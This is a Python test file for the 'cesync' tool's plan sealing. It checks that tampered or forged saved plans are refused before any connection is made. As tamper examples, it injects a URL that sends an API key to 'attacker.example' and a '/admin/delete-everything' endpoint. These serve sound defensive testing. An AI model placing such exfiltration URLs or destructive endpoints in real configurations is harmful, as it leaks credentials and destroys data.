"""A saved plan binds what it sends: every byte of the file that matters, and the unmasked bodies.

The repo holds a sensitive variable (API_KEY) in a tool's url and, through $env_var, in its
OpenAPI schema: both fields are masked whole in the plan file. CESYNC_PLAN_KEY is set for plan
and apply, as docs/commands/apply.md asks; the attacker edits the file (or the repo after the plan) and,
not knowing the key, can only seal the file again with a guess.
"""

from __future__ import annotations

import asyncio
import copy
import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cesync.client import CesClient
from cesync.core.plan import Plan
from cesync.core.planseal import binding_key, seal_of
from cesync.core.scrubber import Scrubber
from cesync.core.sensitive import MASK
from cesync.emulator import EmbeddedTransport
from cesync.emulator.server import BackgroundServer
from cesync.errors import PlanFileError
from cesync.pipeline.context import open_context
from cesync.pipeline.planning import make_plan
from cesync.pipeline.saved import check_saved, narrow_saved
from tests.core.test_sensitive import _repo
from tests.helpers import cesync

SECRET = "sk-one-1234"
KEY = "ci-plan-key"
ENV = {"CESYNC_VAR_API_KEY": SECRET, "CESYNC_PLAN_KEY": KEY}


@pytest.fixture(scope="module")
def keyed() -> Iterator[None]:
    saved = {k: os.environ.get(k) for k in ENV}
    os.environ.update(ENV)
    yield
    for k, v in saved.items():
        if v is None:
            os.environ.pop(k, None)
        else:
            os.environ[k] = v


async def _plan(root: Path, transport: httpx.AsyncBaseTransport, **kw: Any) -> Plan:
    async with CesClient("http://emu", transport=transport) as c:
        return await make_plan(open_context(root, "local", scrubber=Scrubber()), c, **kw)


@pytest.fixture(scope="module")
def world(
    keyed: None, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, EmbeddedTransport, dict[str, Any], dict[str, Any]]:
    """The repo applied, then: the note's text edited, a tool added, one removed (pruned); the
    saved full plan (with prune) and a targeted one (the note only)."""
    from cesync.pipeline.apply import apply_plan

    root = _repo(tmp_path_factory.mktemp("bound"))
    transport = EmbeddedTransport(apps=["projects/p/locations/us/apps/a"])

    async def first() -> None:
        async with CesClient("http://emu", transport=transport) as c:
            assert (await apply_plan(c, await make_plan(open_context(root, "local", scrubber=Scrubber()), c))).ok

    asyncio.run(first())
    note = root / "tools" / "note.yaml"
    note.write_text(note.read_text().replace("and more", "and more, v2"))
    (root / "tools" / "hello.yaml").write_text("clientFunction:\n  name: hello\n  description: Say hello.\n")
    removed = next(p for p in sorted((root / "tools").glob("*.yaml")) if p.stem not in ("orders", "note", "hello"))
    removed.unlink()
    full = json.loads(asyncio.run(_plan(root, transport, prune=True, prune_unmanaged=True)).to_json())
    targeted = json.loads(asyncio.run(_plan(root, transport, prune=True, targets=["note"])).to_json())
    assert {c["action"] for c in full["changes"]} == {"create", "update", "delete"}, full["changes"]
    assert [c["id"] for c in targeted["changes"]] == ["note"]
    return root, transport, full, targeted


def _check(root: Path, data: dict[str, Any]) -> None:
    """check_saved: what apply does before it opens any connection."""
    check_saved(open_context(root, "local", scrubber=Scrubber()), Plan.from_json(json.dumps(data)))


def _apply(world: tuple[Path, EmbeddedTransport, dict[str, Any], dict[str, Any]], data: dict[str, Any]) -> Plan:
    root, transport = world[0], world[1]

    async def run() -> Plan:
        async with CesClient("http://emu", transport=transport) as c:
            return await narrow_saved(open_context(root, "local", scrubber=Scrubber()), c, Plan.from_json(json.dumps(data)))

    return asyncio.run(run())


def _forged(data: dict[str, Any], guess: bytes) -> dict[str, Any]:
    """The attacker's new seal, made with a guessed CESYNC_PLAN_KEY and the real secret (the worst case)."""
    plan = Plan.from_json(json.dumps(data))
    return {**data, "seal": seal_of(plan, scrub=str, key=binding_key({"API_KEY": SECRET}, plan.sensitive.salt, guess))}


def test_the_plans_as_made_apply(world: tuple[Path, EmbeddedTransport, dict[str, Any], dict[str, Any]]) -> None:
    assert sorted(c.key for c in _apply(world, world[3]).changes) == ["tool/note"]
    full = _apply(world, world[2])
    assert sorted(c.action for c in full.changes) == ["create", "delete", "update"]  # prune carried by the plan
    assert any(MASK in json.dumps(c["body"]) for c in world[2]["changes"] if c["body"])  # masked fields are there


# --- finding 2: a targeted plan widened --------------------------------------------------------------


@pytest.mark.parametrize("guess", [None, b"", b"wrong"])
def test_a_widened_targeted_plan_is_refused_before_any_connection(
    world: tuple[Path, EmbeddedTransport, dict[str, Any], dict[str, Any]], guess: bytes | None
) -> None:
    data = copy.deepcopy(world[3])
    data["targets"], data["changes"] = [], copy.deepcopy(world[2]["changes"])
    if guess is not None:
        data = _forged(data, guess)
    with pytest.raises(PlanFileError, match="seal does not match"):
        _check(world[0], data)


# --- generated edits of every kind: each refused before any connection ---------------------------------


def _strings(data: Any, path: tuple[Any, ...] = ()) -> list[tuple[tuple[Any, ...], str]]:
    if isinstance(data, dict):
        return [x for k, v in data.items() for x in _strings(v, (*path, k))]
    if isinstance(data, list):
        return [x for i, v in enumerate(data) for x in _strings(v, (*path, i))]
    return [(path, data)] if isinstance(data, str) else []


def _set(data: Any, path: tuple[Any, ...], value: Any) -> None:
    for p in path[:-1]:
        data = data[p]
    data[path[-1]] = value


@st.composite
def edited(draw: st.DrawFn, full: dict[str, Any], targeted: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    kind = draw(
        st.sampled_from(["body field", "masked field", "target", "change added", "change removed", "prune", "plan field"])
    )
    data = copy.deepcopy(targeted if kind == "target" else full)
    bodies = [(i, c) for i, c in enumerate(data["changes"]) if c["body"]]
    if kind in ("body field", "masked field"):
        found = [(i, p, s) for i, c in bodies for p, s in _strings(c["body"]) if (s == MASK) == (kind == "masked field")]
        i, path, _ = draw(st.sampled_from(found))
        new = draw(st.sampled_from(["https://attacker.example/steal?k=${API_KEY}", "post /admin/delete-everything", ""]))
        _set(data["changes"][i]["body"], path, new)
    elif kind == "target":
        data["targets"] = draw(st.sampled_from([[], ["tool/hello"], ["tool/note", "tool/hello"]]))
        data["changes"] = copy.deepcopy(full["changes"]) if draw(st.booleans()) else data["changes"]
    elif kind == "change added":
        extra = copy.deepcopy(draw(st.sampled_from(full["changes"])))
        extra["id"] = extra["id"] + "-x"
        extra["name"] = extra["name"] + "-x"
        data["changes"].insert(draw(st.integers(0, len(data["changes"]))), extra)
    elif kind == "change removed":
        del data["changes"][draw(st.integers(0, len(data["changes"]) - 1))]
    elif kind == "prune":
        data["prune"] = not data["prune"]
    else:
        field = draw(st.sampled_from(["managed", "created_at", "unmanaged", "refused"]))
        data[field] = {"managed": 99, "created_at": "2000-01-01T00:00:00+00:00", "unmanaged": ["x"], "refused": ""}[field]
        if data[field] == full[field]:
            data["managed"] = data["managed"] + 1
    guess = draw(st.sampled_from([None, b"", b"guess", KEY.encode() + b"x"]))
    return kind, data if guess is None else _forged(data, guess)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_every_kind_of_edit_is_refused_before_any_connection(
    world: tuple[Path, EmbeddedTransport, dict[str, Any], dict[str, Any]], data: st.DataObject
) -> None:
    kind, plan = data.draw(edited(world[2], world[3]))
    with pytest.raises(PlanFileError, match="seal does not match") as info:
        _check(world[0], plan)
    assert "Traceback" not in str(info.value), kind


# --- finding 1: the repo edited after the plan, in a masked field --------------------------------------


@pytest.mark.parametrize(
    "old, new",
    [
        ("https://orders.example/v1?key=${API_KEY}", "https://attacker.example/steal?k=${API_KEY}"),
        ("/orders: {get: {operationId: list_orders", "/admin/delete-everything: {post: {operationId: list_orders"),
    ],
)
def test_a_masked_field_edited_after_the_plan_is_refused(tmp_path: Path, old: str, new: str) -> None:
    """End to end: before, the masked digest did not see the edit and apply sent it."""
    root = _repo(tmp_path)
    planfile = tmp_path / "plan.json"
    with BackgroundServer(auto_create_apps=True) as emu:
        env = {**ENV, "CES_EMULATOR_HOST": emu.host}
        made = cesync("plan", "--dir", str(root), "--env", "local", "--out", str(planfile), env=env)
        assert made.returncode == 0, made.stderr
        assert old not in planfile.read_text() and SECRET not in planfile.read_text()  # masked in the file
        tool = root / "toolsets" / "orders.yaml"
        assert old in tool.read_text()
        tool.write_text(tool.read_text().replace(old, new))
        result = cesync("apply", str(planfile), "--dir", str(root), "--auto-approve", env=env)
        assert result.returncode == 1 and "the repo changed since the plan was made" in result.stderr, result.stderr
        state = json.dumps(httpx.get(f"{emu.url}/admin/state").json())
        assert "orders" not in state and "attacker" not in state and "delete-everything" not in state


def test_a_saved_plan_carries_its_prune_setting(tmp_path: Path) -> None:
    """#28 item 8: a plan made with --prune applies its deletes without --prune again; --no-prune refuses them."""
    root = _repo(tmp_path)
    planfile = tmp_path / "plan.json"
    with BackgroundServer(auto_create_apps=True) as emu:
        env = {**ENV, "CES_EMULATOR_HOST": emu.host}
        common = ("--dir", str(root), "--env", "local")
        assert cesync("apply", *common, "--auto-approve", env=env).returncode == 0
        (root / "tools" / "note.yaml").unlink()
        assert cesync("plan", *common, "--prune", "--out", str(planfile), env=env).returncode == 0
        refused = cesync("apply", str(planfile), *common, "--no-prune", "--auto-approve", env=env)
        assert refused.returncode == 1 and "prune is off for this apply (--no-prune)" in refused.stderr, refused.stderr
        applied = cesync("apply", str(planfile), *common, "--auto-approve", env=env)
        assert applied.returncode == 0 and "1 deleted" in applied.stdout, applied.stdout + applied.stderr
        shutil.rmtree(root / ".cesync", ignore_errors=True)
